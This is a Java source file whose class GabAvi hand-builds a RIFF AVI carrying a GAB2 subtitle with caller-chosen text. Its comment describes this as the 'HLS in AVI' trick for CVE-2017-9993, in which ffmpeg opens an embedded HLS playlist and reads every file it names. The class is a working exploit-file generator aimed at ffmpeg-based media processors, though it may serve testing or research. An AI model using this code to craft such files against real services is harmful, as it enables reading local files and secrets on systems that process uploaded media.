package dev.spool.cli;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;

/**
 * An AVI whose one stream is a GAB2 subtitle carrying a text of our choice: the "HLS in AVI"
 * trick, where ffmpeg's AVI demuxer probes the subtitle's bytes and opened an HLS playlist found
 * there, reading every file it names (CVE-2017-9993). Built by hand: RIFF 'AVI ' with hdrl (avih,
 * one 'txts' strl), movi (one 00tx chunk: "GAB2\0", version 2, an empty name, the text) and idx1.
 */
final class GabAvi {
    private GabAvi() {}

    static byte[] carrying(String text) {
        byte[] payload = text.getBytes(StandardCharsets.UTF_8);
        ByteBuffer gab = le(7 + 4 + 2 + 2 + 4 + payload.length);
        gab.put("GAB2\0".getBytes(StandardCharsets.US_ASCII)).putShort((short) 2);
        gab.putInt(2).putShort((short) 0);   // the stream's name: one UTF-16 NUL
        gab.putShort((short) 4).putInt(payload.length).put(payload);

        ByteBuffer avih = le(56);
        avih.putInt(1_000_000).putInt(0).putInt(0).putInt(0x10).putInt(1).putInt(0).putInt(1).putInt(payload.length + 64)
                .putInt(160).putInt(90);
        ByteBuffer strh = le(56);
        strh.put("txts".getBytes(StandardCharsets.US_ASCII)).putInt(0).putInt(0).putShort((short) 0).putShort((short) 0)
                .putInt(0).putInt(1).putInt(1).putInt(0).putInt(1).putInt(payload.length + 64).putInt(-1).putInt(0);
        byte[] strl = list("strl", chunk("strh", strh.array()), chunk("strf", new byte[4]));
        byte[] hdrl = list("hdrl", chunk("avih", avih.array()), strl);
        byte[] data = chunk("00tx", gab.array());
        byte[] movi = list("movi", data);
        ByteBuffer idx = le(16);
        idx.put("00tx".getBytes(StandardCharsets.US_ASCII)).putInt(0x10).putInt(4).putInt(gab.capacity());   // offset from "movi"
        byte[] body = concat("AVI ".getBytes(StandardCharsets.US_ASCII), hdrl, movi, chunk("idx1", idx.array()));
        return chunk("RIFF", body);
    }

    private static ByteBuffer le(int size) {
        return ByteBuffer.allocate(size).order(ByteOrder.LITTLE_ENDIAN);
    }

    private static byte[] list(String type, byte[]... parts) {
        byte[][] all = new byte[parts.length + 1][];
        all[0] = type.getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(parts, 0, all, 1, parts.length);
        return chunk("LIST", concat(all));
    }

    /** FOURCC, little-endian size, data, padded to an even length. */
    private static byte[] chunk(String fourcc, byte[] data) {
        ByteBuffer b = le(8 + data.length + (data.length & 1));
        b.put(fourcc.getBytes(StandardCharsets.US_ASCII)).putInt(data.length).put(data);
        return b.array();
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) out.writeBytes(p);
        return out.toByteArray();
    }
}
